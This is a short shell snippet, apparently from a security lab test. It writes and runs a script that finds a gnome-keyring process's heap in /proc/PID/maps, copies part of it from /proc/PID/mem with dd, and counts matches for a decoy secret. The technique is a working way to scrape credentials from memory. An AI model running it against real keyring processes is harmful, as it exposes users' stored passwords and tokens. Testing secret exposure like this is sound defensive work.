# The shell recipe: pgrep, the heap line of maps, dd with skip and count.
cat > /tmp/memdump.sh <<'S'
#!/bin/sh
pid=$1
line=$(grep '\[heap\]' /proc/$pid/maps | head -1)
start=$(echo $line | cut -d- -f1)
dd if=/proc/$pid/mem of=/tmp/heap.bin bs=1024 skip=$((0x$start / 1024)) count=4 2>/dev/null
strings /tmp/heap.bin | grep -c DECOY-SECRET
rm -f /tmp/heap.bin
S
chmod 755 /tmp/memdump.sh
/tmp/memdump.sh $(pgrep -n -f $LAB/bin/gnome-keyring)
